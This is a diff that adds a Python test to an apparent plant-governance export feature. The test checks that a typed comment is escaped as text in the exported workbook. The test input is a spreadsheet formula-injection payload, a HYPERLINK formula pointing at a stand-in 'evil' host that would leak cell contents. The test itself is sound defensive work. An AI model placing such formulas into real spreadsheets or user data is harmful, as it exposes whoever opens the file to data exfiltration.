@@ -111,3 +111,22 @@ def test_the_governance_snapshot_reaches_victoriametrics_through_the_influx_writ
         peaks = vm.export('shift_figure_max{zone="polishing-1",type="dust",shift="day"}')
     assert opened and opened[0]["values"] == [1]
     assert peaks and peaks[0]["values"] == [25.0]
+
+
+def test_what_a_person_typed_is_text_in_the_workbook_never_a_formula(tmp_path: Path) -> None:
+    async def main() -> bytes:
+        clock = clock_at("2027-01-15 19:50")
+        async with rig(tmp_path, patrol_plant(tmp_path), clock) as r:
+            await with_people(r)
+            await r.desk.governance.record_cleaning(
+                "polishing-1", LEADER, items_done=ITEMS, residue_mm=0.1,
+                photo=Photo(content=PNG), comment='=HYPERLINK("http://evil/?"&A1)\x01',
+            )  # fmt: skip
+            return await r.desk.governance.export(
+                "cleaning", since=at("2027-01-01 00:00"), until=at("2027-02-01 00:00")
+            )
+
+    data = run(main())
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    cell = sheet.cell(row=3, column=12)
+    assert cell.data_type == "s" and cell.value == '\'=HYPERLINK("http://evil/?"&A1)'
